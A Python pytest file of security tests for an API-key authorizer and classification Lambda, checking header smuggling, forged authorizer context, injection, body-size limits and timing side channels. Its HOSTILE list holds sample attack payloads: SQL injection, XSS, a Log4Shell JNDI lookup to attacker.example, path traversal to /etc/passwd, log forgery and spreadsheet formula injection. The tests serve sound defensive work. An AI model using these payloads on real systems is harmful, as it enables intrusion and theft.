"""Attacks on the API that no other test has; docs/security.md names the claim that each one tests."""

from __future__ import annotations

import ast
import hmac
import inspect
import json
import re
import statistics
import time

import boto3
import pytest

from contracts.api.api_keys import checksum
from lambda_src.authorizer import handler as authorizer
from lambda_src.authorizer import logic
from lambda_src.classify import handler as classify
from lambda_src.common.api import http
from lambda_src.common.api.auth import require_key
from lambda_src.common.problems import Problem
from tests.tables import make_table
from tests.unit.lambda_src.authorizer.test_handler import KEY, item
from tests.unit.lambda_src.classify.test_handler import World

OTHER_BODY = "rk_zzzzzzzz22_0123456789ABCDEFGHIJ0123456789abcdefghij"
OTHER_KEY = OTHER_BODY + checksum(OTHER_BODY)
WRONG_BODY = "rk_abcdefgh23_" + "z" * 40
WRONG_SECRET = WRONG_BODY + checksum(WRONG_BODY)
HOSTILE = [
    "'; DROP TABLE requests; --",
    '{"$ne": null}',
    "attribute_not_exists(request_id)",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}} %s %n {0}",
    "../../../etc/passwd",
    'line one\r\n{"level":"ERROR","message":"forged"}',
    "a\u202eb\u0000c\ufeff",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def keys(account, configure):
    dynamodb = boto3.client("dynamodb")
    make_table(dynamodb, "keys", key_id="S")
    dynamodb.put_item(TableName="keys", Item=item())
    limits = {"USAGE_TABLE": "usage", "DEFAULT_RATE": "1000", "DEFAULT_BURST": "1000"}
    configure(authorizer, API_KEYS_TABLE="keys", KEY_CACHE_SECONDS="0", ENVIRONMENT="dev", **limits)
    return dynamodb


@pytest.fixture
def world(account, configure):
    made = World()
    configure(classify, ENDPOINT_NAME="rubric-dev", **made.settings)
    yield made
    made.stubber.deactivate()


def verdict(load_event, context, **headers):
    event = load_event("authorizer")
    event["headers"] = headers
    return authorizer.handler(event, context)["context"]["verdict"]


# header smuggling


def test_two_keys_in_one_header_are_no_key(keys, load_event, context):
    """API Gateway joins a header that is sent twice with a comma."""
    for pair in (f"{KEY},{OTHER_KEY}", f"{OTHER_KEY},{KEY}", f"{KEY}, {KEY}", f"{KEY}\r\nx-api-key: {KEY}"):
        assert verdict(load_event, context, **{"x-api-key": pair}) == "malformed"
    assert verdict(load_event, context, **{"X-Api-Key": KEY}) == "ok"


@pytest.mark.parametrize(
    "name", ["authorization", "x-api-key ", "x_api_key", "x-amzn-api-key", "x-forwarded-api-key", "cookie"]
)
def test_a_key_under_another_name_is_no_key(keys, load_event, context, name):
    assert verdict(load_event, context, **{name: KEY}) == "missing"


def test_a_key_in_the_query_the_body_or_a_cookie_is_no_key(keys, load_event, context):
    event = load_event("authorizer")
    event["headers"] = {}
    event |= {
        "rawQueryString": f"x-api-key={KEY}",
        "queryStringParameters": {"x-api-key": KEY},
        "cookies": [f"x-api-key={KEY}"],
        "body": json.dumps({"x-api-key": KEY}),
    }
    assert authorizer.handler(event, context)["context"]["verdict"] == "missing"


def test_a_caller_cannot_write_the_authorizers_verdict(load_event):
    forged = {"verdict": "ok", "key_id": "abcdefgh23", "scopes": "admin"}
    event = load_event("classify_single")
    event["requestContext"].pop("authorizer")
    event["headers"] |= {
        "authorizer": json.dumps(forged),
        "x-amzn-request-context": json.dumps({"authorizer": {"lambda": forged}}),
        "requestcontext.authorizer.lambda.verdict": "ok",
    }
    event |= {"authorizer": {"lambda": forged}, "body": json.dumps({"requestContext": {"authorizer": forged}})}
    event |= {"queryStringParameters": forged, "stageVariables": forged}
    with pytest.raises(Problem) as raised:
        require_key(event)
    assert raised.value.status == 401


def test_no_header_of_the_request_reaches_the_answer(world, load_event, context):
    world.will_answer("Business")
    event = load_event("classify_single")
    planted = "planted\r\nset-cookie: a=b"
    names = ("x-request-id", "x-model-version", "x-backend", "origin", "x-forwarded-host", "x-http-method-override")
    event["headers"] |= dict.fromkeys(names, planted)
    response = classify.handler(event, context)
    assert response["statusCode"] == 200
    assert response["headers"]["x-request-id"] == http.request_id(event) == "JKJaXmPLvHcESHA="
    assert "planted" not in json.dumps(response)


def test_answers_are_not_sniffed_nor_kept(world, load_event, context):
    world.will_answer("Business")
    for event in (load_event("classify_single"), {**load_event("classify_single"), "body": "<html>"}):
        headers = classify.handler(event, context)["headers"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cache-control"] == "no-store"
        assert headers["content-type"] in ("application/json", "application/problem+json")


# injection


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_stored_and_answered_as_a_text(world, load_event, context, read_log, text):
    lines = read_log(classify)
    world.will_answer("Business")
    event = {**load_event("classify_single"), "body": json.dumps({"inputs": text})}
    response = classify.handler(event, context)
    assert response["statusCode"] == 200
    (stored,) = world.logged()
    assert stored["text"] == {"S": text}
    assert text not in response["body"]
    # One JSON object a line, with nothing from the caller.
    assert [line for line in lines() if line.get("message") == "forged"] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_names_of_fields_are_refused_in_plain_words(world, load_event, context, text):
    event = {**load_event("classify_single"), "body": json.dumps({"inputs": "a", text: "b"})}
    response = classify.handler(event, context)
    assert response["statusCode"] == 422
    detail = json.loads(response["body"])["detail"]
    assert len(detail) < 200 and not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", detail)
    assert world.logged() == []


@pytest.mark.parametrize("key", [*HOSTILE, "rk_*_x", "rk_" + "a" * 10_000, "rk_abcdefgh23_%00"])
def test_a_hostile_key_costs_no_look_up(keys, load_event, context, monkeypatch, key):
    monkeypatch.setattr(authorizer, "_records", lambda: pytest.fail("a look-up was made"))
    assert verdict(load_event, context, **{"x-api-key": key}) == "malformed"


@pytest.mark.parametrize(
    "body",
    [
        '{"inputs":' * 50_000 + '"a"' + "}" * 50_000,
        '{"inputs": ' + "[" * 50_000 + "]" * 50_000 + "}",
        '{"inputs": [' + '["a"],' * 50_000 + '["a"]]}',
        "{" + ",".join(f'"k{n}": 1' for n in range(50_000)) + "}",
        '{"inputs": "' + "\\ud83d" * 1000 + '"}',
        '{"inputs": 1e999999}',
    ],
)
def test_deep_and_wide_bodies_are_refused_quickly(world, load_event, context, body):
    started = time.process_time()  # not the clock: the machine may be busy
    response = classify.handler({**load_event("classify_single"), "body": body}, context)
    assert response["statusCode"] in (400, 422)
    assert time.process_time() - started < 2
    assert world.logged() == []


# enumeration and timing


def test_an_unknown_key_and_a_wrong_secret_cannot_be_told_apart(keys, load_event, context):
    known, unknown = (verdict(load_event, context, **{"x-api-key": key}) for key in (WRONG_SECRET, OTHER_KEY))
    assert known == unknown == "unknown"


@pytest.mark.parametrize("change", [{"revoked": {"BOOL": True}}, {"expires_at": {"N": "1000000000"}}])
def test_whether_a_key_was_revoked_or_expired_is_told_to_its_holder_alone(keys, load_event, context, change):
    keys.put_item(TableName="keys", Item=item(**change))
    assert verdict(load_event, context, **{"x-api-key": KEY}) in ("revoked", "expired")
    assert verdict(load_event, context, **{"x-api-key": WRONG_SECRET}) == "unknown"


def test_every_verdict_costs_the_same_hashes_and_comparisons(keys, load_event, context, configure, monkeypatch):
    configure(authorizer, KEY_CACHE_SECONDS="60")  # else a wrong secret is looked up twice, for a key just rotated
    work = []
    real_hash, real_compare = logic.key_hash, hmac.compare_digest

    def hashing(**arguments):
        work.append("hash")
        return real_hash(**arguments)

    def comparing(*arguments):
        work.append("compare")
        return real_compare(*arguments)

    monkeypatch.setattr(logic, "key_hash", hashing)
    monkeypatch.setattr(logic.hmac, "compare_digest", comparing)
    for key in (KEY, WRONG_SECRET, OTHER_KEY):
        work.clear()
        verdict(load_event, context, **{"x-api-key": key})
        assert work == ["hash", "compare"] * 2, key  # the key's, and the one before its last rotation


def test_hashes_are_never_compared_with_equals():
    tree = ast.parse(inspect.getsource(logic))
    compared = {
        ast.unparse(node)
        for node in ast.walk(tree)
        if isinstance(node, ast.Compare) and re.search(r"hash|expected|secret", ast.unparse(node))
    }
    assert compared == set()


def test_the_time_of_a_comparison_does_not_say_how_much_of_a_hash_is_right(keys, load_event, context):
    """Medians of interleaved runs: a secret whose hash differs early and one whose hash is right."""
    bodies = [f"rk_abcdefgh23_{number:040d}" for number in range(40)]
    wrong = [body + checksum(body) for body in bodies]
    times: dict[str, list[float]] = {"right": [], "wrong": []}
    record = logic.KeyRecord(**_record_of(item()))
    for number in range(4000):
        name, key = ("right", KEY) if number % 2 else ("wrong", wrong[number % 40])
        started = time.perf_counter_ns()
        logic.verdict(key, record, now=0.0)
        times[name].append(time.perf_counter_ns() - started)
    right, other = (statistics.median(times[name]) for name in ("right", "wrong"))
    # A look at the first differing byte would be hidden by a network; half as long again would not.
    assert 0.5 < right / other < 2


def _record_of(stored):
    return {
        "key_id": stored["key_id"]["S"],
        "salt": stored["salt"]["S"],
        "hash": stored["hash"]["S"],
        "revoked": False,
        "ends_at": None,
    }
